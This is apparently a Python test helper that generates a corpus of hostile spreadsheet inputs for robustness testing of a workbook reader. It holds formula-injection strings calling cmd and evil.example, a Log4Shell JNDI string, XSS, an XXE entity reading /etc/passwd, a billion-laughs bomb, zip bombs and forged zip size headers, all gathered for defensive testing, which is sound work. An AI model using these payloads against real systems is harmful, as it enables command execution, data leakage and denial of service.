"""Builds the bad-input corpus of issue 15 into a folder (no binaries are committed).

Families: container damage, XML attacks, size attacks (zip bombs, huge shared string,
padded sheet, a million rows, a value in XFD1048576), hostile text (formula-like unit
names, control characters, ``_x0000_``, RTL, 10k-character strings), structure
(two LKE sheets, hidden sheet/rows/columns, 1e308) and hostile environment (FIFO, a
folder named .xlsx, a link to /dev/zero).  Every input derives from samples/*.xlsx.

    from hostile_corpus import build
    cases = build(tmp_path)            # the whole corpus (>= 250 inputs)
    cases = build(tmp_path, fast=True)  # about 30, one of each kind
"""
from __future__ import annotations

import io
import os
import re
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from test_recap_support import sheet_part, set_cells

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = sorted((ROOT / "samples").glob("*.xlsx"))

#: Strings that must never become a live formula in any output.
HOSTILE_TEXT = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/x?leak="&A1,"klik")',
    '=WEBSERVICE("http://evil.example/")',
    "\t=1+1",
    "\r=1+1",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "Dinas\x01\x02\x07Kontrol",
    "Dinas _x0000_ Nol",
    "Dinas\u202eLAPORAN\u202c",
    "\u062f\u064a\u0646\u0627\u0633 \u0639\u0631\u0628\u064a",
    "Dinas " + "A" * 10_000,
    "Dinas \ud7ff\ufffe\uffff",
    "<script>alert(1)</script>",
    "Dinas ${jndi:ldap://evil.example/a}",
    "Dinas \"quoted\" 'single' ;,|",
]
#: Pieces that may only appear in an output formula if they came from input text.
FORMULA_MARKERS = ("cmd|", "evil.example", "WEBSERVICE", "calc'")
#: Formulas that are exactly a piece of the input text.
FORMULA_EXACT = ("1+1", "SUM(1+1)")


@dataclass
class Case:
    name: str
    path: Path
    family: str
    texts: tuple[str, ...] = ()  # hostile strings the case puts in the workbook
    kind: str = "file"           # file | fifo | dir | device

    @property
    def hashable(self) -> bool:
        return self.kind == "file"


# ------------------------------------------------------------------ zip helpers

def members(src: Path) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(src) as zf:
        return [(i, zf.read(i.filename)) for i in zf.infolist()]


def write_zip(dst: Path, items, *, compress: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(dst, "w", compress) as zf:
        for info, data in items:
            name = info if isinstance(info, str) else info.filename
            zf.writestr(name, data)
    return dst


def edit(src: Path, dst: Path, fn) -> Path:
    """Copy ``src`` to ``dst`` with ``fn(name, data) -> data | None`` (None drops it)."""
    out = []
    for info, data in members(src):
        new = fn(info.filename, data)
        if new is not None:
            out.append((info.filename, new))
    return write_zip(dst, out)


def lke_part(src: Path) -> str:
    with zipfile.ZipFile(src) as zf:
        names = re.findall(r'<sheet\b[^>]*\bname="([^"]+)"', zf.read("xl/workbook.xml").decode())
        return sheet_part(zf, names[0])


def first_sheet(src: Path) -> str:
    with zipfile.ZipFile(src) as zf:
        return re.findall(r'<sheet\b[^>]*\bname="([^"]+)"', zf.read("xl/workbook.xml").decode())[0]


def stream_zip(dst: Path, base: Path, name: str, chunks, *, declared: int | None = None) -> Path:
    """``base`` with member ``name`` replaced by the concatenated ``chunks`` (a
    generator, compressed as it goes so a 200 MB member costs no memory)."""
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info, data in members(base):
            if info.filename != name:
                zout.writestr(info.filename, data)
        zi = zipfile.ZipInfo(name)
        zi.compress_type = zipfile.ZIP_DEFLATED
        with zout.open(zi, "w", force_zip64=True) as f:
            for c in chunks:
                f.write(c)
    if declared is not None:
        _lie_about_size(dst, name, declared)
    return dst


def _lie_about_size(path: Path, name: str, declared: int) -> None:
    """Patch the central directory so ``name`` claims ``declared`` inflated bytes."""
    data = bytearray(path.read_bytes())
    enc = name.encode()
    at = data.rfind(b"PK\x01\x02" + b"\x00" * 0, 0)
    pos = 0
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            return
        n = int.from_bytes(data[pos + 28:pos + 30], "little")
        if bytes(data[pos + 46:pos + 46 + n]) == enc:
            if int.from_bytes(data[pos + 24:pos + 28], "little") != 0xFFFFFFFF:
                data[pos + 24:pos + 28] = declared.to_bytes(4, "little")
            path.write_bytes(bytes(data))
            return
        pos += 4
    del at


# ------------------------------------------------------------------ families

def _container(out: Path, base: Path, tag: str, fast: bool) -> list[Case]:
    raw = base.read_bytes()
    cases = []

    def add(name, data=None, fn=None):
        p = out / f"{tag}-{name}.xlsx"
        if fn is not None:
            edit(base, p, fn)
        else:
            p.write_bytes(data)
        cases.append(Case(p.name, p, "container"))

    part = lke_part(base)
    fracs = (0.5,) if fast else (0.01, 0.3, 0.5, 0.9, 0.999)
    for f in fracs:
        add(f"truncated-{int(f * 1000)}", raw[:max(4, int(len(raw) * f))])
    add("empty", b"")
    add("text", b"hello, this is not a workbook\n" * 10)
    if fast:
        add("no-sheet", fn=lambda n, d: None if n == part else d)
        add("no-content-types", fn=lambda n, d: None if n == "[Content_Types].xml" else d)
        add("sheet-garbage", fn=lambda n, d: b"\x00\xff garbage <<<" if n == part else d)
        return cases
    add("ole-xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000)
    add("ole-encrypted", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + b"\0" * 500)
    add("no-content-types", fn=lambda n, d: None if n == "[Content_Types].xml" else d)
    add("no-styles", fn=lambda n, d: None if n == "xl/styles.xml" else d)
    add("no-workbook-xml", fn=lambda n, d: None if n == "xl/workbook.xml" else d)
    add("no-sheet", fn=lambda n, d: None if n == part else d)
    add("no-shared-strings", fn=lambda n, d: None if n == "xl/sharedStrings.xml" else d)
    add("no-rels", fn=lambda n, d: None if n == "xl/_rels/workbook.xml.rels" else d)
    add("sheet-garbage", fn=lambda n, d: b"\x00\xff garbage <<<" if n == part else d)
    add("sheet-half", fn=lambda n, d: d[: len(d) // 2] if n == part else d)
    add("styles-garbage", fn=lambda n, d: b"<styleSheet><<" if n == "xl/styles.xml" else d)
    add("sst-garbage", fn=lambda n, d: b"<sst><si><t>x" if n == "xl/sharedStrings.xml" else d)
    # a byte flipped inside the compressed sheet: CRC/zlib errors
    flipped = bytearray(raw)
    idx = raw.find(part.encode()) + 200
    for k in range(idx, min(idx + 40, len(flipped))):
        flipped[k] ^= 0x5A
    add("flipped-bytes", bytes(flipped))
    cd = raw.rfind(b"PK\x05\x06")
    add("eocd-garbage", raw[:cd] + b"PK\x05\x06" + b"\xff" * 18)
    return cases


BILLION_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b"]>")
XXE = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_HTTP = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>'


def _with_doctype(data: bytes, doctype: bytes, entity: bytes) -> bytes:
    body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", data)
    # use the entity inside the first text node
    body = re.sub(rb"(<t[^>]*>)", rb"\1" + entity, body, count=1)
    return doctype + b"\n" + body


def _xml(out: Path, base: Path, tag: str, fast: bool) -> list[Case]:
    cases = []
    part = lke_part(base)
    attacks = [("laughs", BILLION_LAUGHS, b"&lol9;"), ("xxe-file", XXE, b"&xxe;"), ("xxe-http", XXE_HTTP, b"")]
    targets = [("sst", "xl/sharedStrings.xml"), ("sheet", part), ("workbook", "xl/workbook.xml"),
               ("rels", "xl/_rels/workbook.xml.rels")]
    if fast:
        attacks, targets = attacks[:2], targets[:1]
    for aname, doctype, entity in attacks:
        for tname, member in targets:
            p = out / f"{tag}-xml-{aname}-{tname}.xlsx"
            edit(base, p, lambda n, d, m=member: _with_doctype(d, doctype, entity) if n == m else d)
            cases.append(Case(p.name, p, "xml"))
    return cases


def _size(out: Path, base: Path, fast: bool) -> list[Case]:
    cases = []
    part = lke_part(base)
    sheet = first_sheet(base)

    def add(name, path):
        cases.append(Case(name, path, "size"))

    # one stray value in the last cell of a sheet (calamine allocated 549 GB and aborted)
    p = out / "size-xfd1048576.xlsx"
    set_cells(base, p, sheet, {"XFD1048576": "x"})
    add(p.name, p)
    if fast:
        p = out / "size-sst-200mb.xlsx"
        stream_zip(p, base, "xl/sharedStrings.xml", _sst_chunks(200))
        add(p.name, p)
        p = out / "size-million-rows.xlsx"
        stream_zip(p, base, part, _rows_chunks(base, part, 1_048_576))
        add(p.name, p)
        return cases
    for ref in ("XFD1", "A1048576", "ZZZ60000", "AMK1", "A50001"):
        p = out / f"size-{ref.lower()}.xlsx"
        set_cells(base, p, sheet, {ref: 1})
        add(p.name, p)
    # references calamine reads but a narrow pattern would miss; declared counts it
    # reserves memory for (uniqueCount="4000000000" aborted the process)
    for name, ref in (("row-4294967295", "A4294967295"), ("col-aaaa", "AAAA1"), ("row-10-digits", "B1000000000")):
        p = out / f"size-{name}.xlsx"
        set_cells(base, p, sheet, {ref: 1})
        add(p.name, p)
    p = out / "size-lowercase-ref.xlsx"
    edit(base, p, lambda n, d: d.replace(b"</sheetData>", b'<row r="60000"><c r="xfd60000"><v>1</v></c></row>'
                                         b"</sheetData>") if n == part else d)
    add(p.name, p)
    for attr in (b"uniqueCount", b"count"):
        p = out / f"size-sst-{attr.decode().lower()}.xlsx"
        edit(base, p, lambda n, d, a=attr: re.sub(rb"\b" + a + rb'="\d+"', a + b'="4000000000"', d)
             if n == "xl/sharedStrings.xml" else d)
        add(p.name, p)
    # a million nested elements of random names (too varied for the ratio limit): an
    # ElementTree of workbook.xml cost 715 MB
    rnd = __import__("random").Random(7)
    names = [b"a%x" % rnd.getrandbits(40) for _ in range(600_000)]
    nest = b"".join(b"<" + x + b">" for x in names) + b"".join(b"</" + x + b">" for x in reversed(names))
    for member, close in (("xl/workbook.xml", b"</workbook>"), ("xl/_rels/workbook.xml.rels", b"</Relationships>")):
        p = out / f"size-deep-{member.rsplit('/', 1)[-1].split('.')[0]}.xlsx"
        edit(base, p, lambda n, d, m=member, c=close: d.replace(c, nest + c) if n == m else d)
        add(p.name, p)
    # declared dimension absurd, used cells normal: must still be read
    p = out / "size-dimension-only.xlsx"
    edit(base, p, lambda n, d: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', d)
         if n == part else d)
    add(p.name, p)
    p = out / "size-sst-200mb.xlsx"
    stream_zip(p, base, "xl/sharedStrings.xml", _sst_chunks(200))
    add(p.name, p)
    p = out / "size-sst-lying.xlsx"
    stream_zip(p, base, "xl/sharedStrings.xml", _sst_chunks(120), declared=80_000)
    add(p.name, p)
    p = out / "size-padded-sheet.xlsx"
    stream_zip(p, base, part, _padded_chunks(base, part, 200))
    add(p.name, p)
    p = out / "size-million-rows.xlsx"
    stream_zip(p, base, part, _rows_chunks(base, part, 1_048_576))
    add(p.name, p)
    p = out / "size-60k-rows.xlsx"
    stream_zip(p, base, part, _rows_chunks(base, part, 60_000))
    add(p.name, p)
    p = out / "size-no-refs.xlsx"  # cells without r= attributes: positions implicit
    stream_zip(p, base, part, _noref_chunks(base, part, 3_000))
    add(p.name, p)
    p = out / "size-ratio-styles.xlsx"
    stream_zip(p, base, "xl/styles.xml", [b"<styleSheet>", b" " * (30 << 20), b"</styleSheet>"])
    add(p.name, p)
    p = many_big_sheets(out / "size-many-big-sheets.xlsx", base)
    add(p.name, p)
    p = out / "size-many-members.xlsx"
    items = members(base) + [(f"xl/media/junk{k}.bin", b"x") for k in range(12_000)]
    write_zip(p, items, compress=zipfile.ZIP_STORED)
    add(p.name, p)
    p = out / "size-stored-50mb.xlsx"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members(base):
            zf.writestr(info.filename, data)
        zf.writestr(zipfile.ZipInfo("xl/media/big.bin"), b"\0" * (60 << 20), compress_type=zipfile.ZIP_STORED)
    add(p.name, p)
    return cases


def many_big_sheets(dst: Path, base: Path, *, sheets: int = 4, rows: int = 480, cols: int = 990) -> Path:
    """``base`` with its LKE sheet emptied and ``sheets`` data sheets of ``rows`` x
    ``cols`` numbers: no LKE is found, so every sheet is read while looking for one."""
    items = dict((i.filename, d) for i, d in members(base))
    part = lke_part(base)
    items[part] = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                   b'spreadsheetml/2006/main"><sheetData/></worksheet>')
    wb, rels = items["xl/workbook.xml"].decode(), items["xl/_rels/workbook.xml.rels"].decode()
    ct = items["[Content_Types].xml"].decode()
    letters = []
    for i in range(1, cols + 1):
        name, k = "", i
        while k:
            k, rem = divmod(k - 1, 26)
            name = chr(65 + rem) + name
        letters.append(name.encode())
    for k in range(sheets):
        wb = wb.replace("</sheets>", f'<sheet name="Data{k}" sheetId="{50 + k}" state="visible" r:id="rIdD{k}"/></sheets>')
        rels = rels.replace("</Relationships>", f'<Relationship Id="rIdD{k}" Type="http://schemas.openxmlformats.org/'
                            f'officeDocument/2006/relationships/worksheet" Target="worksheets/data{k}.xml"/></Relationships>')
        ct = ct.replace("</Types>", f'<Override PartName="/xl/worksheets/data{k}.xml" ContentType="application/'
                        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
        body = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%s%d"><v>%d</v></c>' % (c, r, r) for c in letters)
                        + b"</row>" for r in range(1, rows + 1))
        items[f"xl/worksheets/data{k}.xml"] = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats'
                                               b'.org/spreadsheetml/2006/main"><sheetData>' + body
                                               + b"</sheetData></worksheet>")
    items["xl/workbook.xml"], items["xl/_rels/workbook.xml.rels"] = wb.encode(), rels.encode()
    items["[Content_Types].xml"] = ct.encode()
    return write_zip(dst, list(items.items()))


def _sst_chunks(mib: int):
    yield b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
    block = b"A" * (1 << 20)
    for _ in range(mib):
        yield block
    yield b"</t></si></sst>"


def _sheet_split(base: Path, part: str) -> tuple[bytes, bytes]:
    with zipfile.ZipFile(base) as zf:
        data = zf.read(part)
    i = data.index(b"</sheetData>")
    return data[:i], data[i:]


def _padded_chunks(base: Path, part: str, mib: int):
    head, tail = _sheet_split(base, part)
    yield head
    block = b" " * (1 << 20)
    for _ in range(mib):
        yield block
    yield tail


def _rows_chunks(base: Path, part: str, n: int):
    head, tail = _sheet_split(base, part)
    yield head
    start = 1000
    batch = []
    for r in range(start, start + n):
        batch.append(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (r, r))
        if len(batch) == 10_000:
            yield b"".join(batch)
            batch = []
    yield b"".join(batch)
    yield tail


def _noref_chunks(base: Path, part: str, n: int):
    head, tail = _sheet_split(base, part)
    yield head
    yield b"<row>" + b"<c><v>1</v></c>" * n + b"</row>"
    yield tail


def _text(out: Path, base: Path, tag: str, fast: bool) -> list[Case]:
    from test_recap_support import answer_cells

    cases = []
    sheet = first_sheet(base)
    texts = HOSTILE_TEXT[:11] if fast else HOSTILE_TEXT
    try:
        cells = answer_cells(base)
    except Exception:  # noqa: BLE001 - a base the checker cannot map still gets unit-name cases
        cells = {}
    ids = sorted(cells)
    unit_cell = _unit_cell(base)
    for k, text in enumerate(texts):
        p = out / f"{tag}-text-{k:02d}.xlsx"
        edits = {unit_cell: f"Unit Kerja: {text}" if unit_cell == "B2" else text}
        if ids:
            # the same string as an answer and as evidence of another item
            edits[cells[ids[k % len(ids)]]] = text
        set_cells(base, p, sheet, edits)
        cases.append(Case(p.name, p, "text", texts=(text,)))
    return cases


def _unit_cell(base: Path) -> str:
    from lketool.reader import open_workbook

    wb = open_workbook(base)
    grid = wb.grid(wb.sheet_names[0], details=False)
    for r in range(1, min(grid.nrows, 8) + 1):
        for c, v in enumerate(grid.rows[r - 1], start=1):
            if isinstance(v, str) and re.match(r"(?i)\s*(nama\s+)?unit(\s+kerja)?\s*:?\s*$", v):
                from lketool.reader import cell_ref

                return cell_ref(r, c + 1)
    return "C2"


def _structure(out: Path, base: Path, tag: str, fast: bool) -> list[Case]:
    from test_recap_support import answer_cells

    cases = []
    sheet = first_sheet(base)
    part = lke_part(base)
    cells = answer_cells(base)
    ids = sorted(cells)

    p = out / f"{tag}-two-lke-sheets.xlsx"
    two_sheets(base, p)
    cases.append(Case(p.name, p, "structure"))
    p = out / f"{tag}-hidden-sheet.xlsx"
    edit(base, p, lambda n, d: re.sub(rb'(<sheet\b[^>]*?)state="visible"', rb'\1state="hidden"', d, count=1)
         if n == "xl/workbook.xml" else d)
    cases.append(Case(p.name, p, "structure"))
    if fast:
        p = out / f"{tag}-huge-0.xlsx"
        set_cells(base, p, sheet, {cells[i]: 1e308 for i in ids})
        cases.append(Case(p.name, p, "structure"))
        return cases
    row = int(re.search(r"\d+", cells[ids[3]]).group(0))
    col = re.match(r"[A-Z]+", cells[ids[3]]).group(0)
    p = out / f"{tag}-hidden-row.xlsx"
    edit(base, p, lambda n, d: re.sub(rb'(<row\b[^>]*\br="%d")' % row, rb'\1 hidden="1"', d, count=1)
         if n == part else d)
    cases.append(Case(p.name, p, "structure"))
    p = out / f"{tag}-hidden-col.xlsx"
    cn = sum((ord(ch) - 64) * 26 ** i for i, ch in enumerate(reversed(col)))
    edit(base, p, lambda n, d: hide_column(d, cn) if n == part else d)
    cases.append(Case(p.name, p, "structure"))
    for k, value in enumerate([1e308, -1e308, 1.7976931348623157e308, 5e-324, "1e308", "NaN", "inf"]):
        p = out / f"{tag}-huge-{k}.xlsx"
        set_cells(base, p, sheet, {cells[i]: value for i in ids})
        cases.append(Case(p.name, p, "structure"))
    return cases


def hide_column(sheet_xml: bytes, col: int) -> bytes:
    """Mark column ``col`` hidden (adding a <cols> element when the sheet has none)."""
    tag = b'<col min="%d" max="%d" width="10" hidden="1" customWidth="1"/>' % (col, col)
    if b"<cols>" in sheet_xml:
        return sheet_xml.replace(b"<cols>", b"<cols>" + tag, 1)
    return sheet_xml.replace(b"<sheetData", b"<cols>" + tag + b"</cols><sheetData", 1)


def two_sheets(base: Path, dst: Path, second: str = "LKE ZI (2)") -> Path:
    """``base`` with its first sheet duplicated as ``second`` (a second LKE)."""
    items = dict((i.filename, d) for i, d in members(base))
    part = lke_part(base)
    new_part = "xl/worksheets/sheet_copy2.xml"
    items[new_part] = items[part]
    wb = items["xl/workbook.xml"].decode()
    wb = wb.replace("</sheets>", f'<sheet name="{second}" sheetId="99" state="visible" r:id="rIdCopy2"/></sheets>')
    items["xl/workbook.xml"] = wb.encode()
    rels = items["xl/_rels/workbook.xml.rels"].decode()
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdCopy2" Type="http://schemas.openxmlformats.org/'
                        'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet_copy2.xml"/>'
                        "</Relationships>")
    items["xl/_rels/workbook.xml.rels"] = rels.encode()
    ct = items["[Content_Types].xml"].decode()
    ct = ct.replace("</Types>", '<Override PartName="/xl/worksheets/sheet_copy2.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
    items["[Content_Types].xml"] = ct.encode()
    return write_zip(dst, list(items.items()))


ODS_CONTENT = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
    '<office:spreadsheet><table:table table:name="LKE ZI"><table:table-row><table:table-cell '
    'office:value-type="string"><text:p>Unit Kerja</text:p></table:table-cell></table:table-row>'
    '<table:table-row table:number-rows-repeated="{rows}"><table:table-cell/></table:table-row>'
    '<table:table-row><table:table-cell table:number-columns-repeated="{cols}"/><table:table-cell '
    'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    '</table:table></office:spreadsheet></office:body></office:document-content>')


def make_ods(dst: Path, rows: int = 10, cols: int = 3) -> Path:
    """A minimal OpenDocument spreadsheet; large ``rows``/``cols`` repeat counts make
    a reader that expands them allocate rows x cols cells."""
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet",
                    compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", ODS_CONTENT.format(rows=rows, cols=cols))
        zf.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest xmlns:manifest='
                    '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>')
    return dst


def _ods(out: Path, fast: bool) -> list[Case]:
    cases = []
    for name, rows, cols in [("small", 10, 3), ("bomb", 1_048_000, 16_000), ("mid", 9_000, 9_000)][: 2 if fast else 3]:
        for ext in ((".ods",) if fast else (".ods", ".xlsx")):
            p = make_ods(out / f"ods-{name}{ext}", rows, cols)
            cases.append(Case(p.name, p, "container"))
    return cases


def _environment(out: Path) -> list[Case]:
    cases = []
    fifo = out / "env-fifo.xlsx"
    if hasattr(os, "mkfifo"):
        os.mkfifo(fifo)
        cases.append(Case(fifo.name, fifo, "environment", kind="fifo"))
    d = out / "env-folder.xlsx"
    d.mkdir()
    cases.append(Case(d.name, d, "environment", kind="dir"))
    if Path("/dev/zero").exists():
        z = out / "env-dev-zero.xlsx"
        z.symlink_to("/dev/zero")
        cases.append(Case(z.name, z, "environment", kind="device"))
    return cases


def build(out: Path, *, fast: bool = False) -> list[Case]:
    """Write the corpus into ``out`` and describe it."""
    out.mkdir(parents=True, exist_ok=True)
    bases = SAMPLES[:1] if fast else SAMPLES
    cases: list[Case] = []
    for k, base in enumerate(bases):
        tag = f"b{k}"
        cases += _container(out, base, tag, fast)
        if k < 3 or not fast:
            cases += _xml(out, base, tag, fast) if k < 3 else []
        cases += _text(out, base, tag, fast)
        cases += _structure(out, base, tag, fast)
    cases += _size(out, SAMPLES[1], fast)
    cases += _ods(out, fast)
    cases += _environment(out)
    return cases


def zlib_ok() -> bool:  # pragma: no cover - environment probe kept for the CLI below
    return zlib.ZLIB_VERSION is not None


if __name__ == "__main__":  # pragma: no cover
    import sys

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    built = build(target, fast="--fast" in sys.argv)
    print(f"{len(built)} inputs in {target}")
    _ = io
